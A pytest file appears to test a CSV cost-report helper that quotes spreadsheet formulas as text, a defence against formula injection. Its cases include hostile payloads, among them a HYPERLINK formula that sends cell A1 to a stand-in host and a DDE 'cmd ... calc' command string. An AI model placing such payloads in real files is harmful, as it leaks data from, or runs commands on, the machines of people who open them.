"""CSV cost reports: a text cell a spreadsheet would run as a formula is quoted as text."""

from __future__ import annotations

import csv
import io

import pytest

from kiln_platform.reports.services import cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x/"&A1,"y")', '\'=HYPERLINK("http://x/"&A1,"y")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tname", "'\tname"),
        ("-0.500000", "-0.500000"),  # a credit: a number, kept
        ("-12", "-12"),
        ("acme-corp", "acme-corp"),
        (None, None),
        (42, 42),
    ],
)
def test_a_cell_that_would_run_as_a_formula_reads_as_text(value: object, written: object) -> None:
    assert cell(value) == written


def test_quoted_cells_round_trip_through_a_csv_reader() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(map(cell, ["=1+1", "-1.5", "plain, with comma"]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'=1+1",
        "-1.5",
        "plain, with comma",
    ]
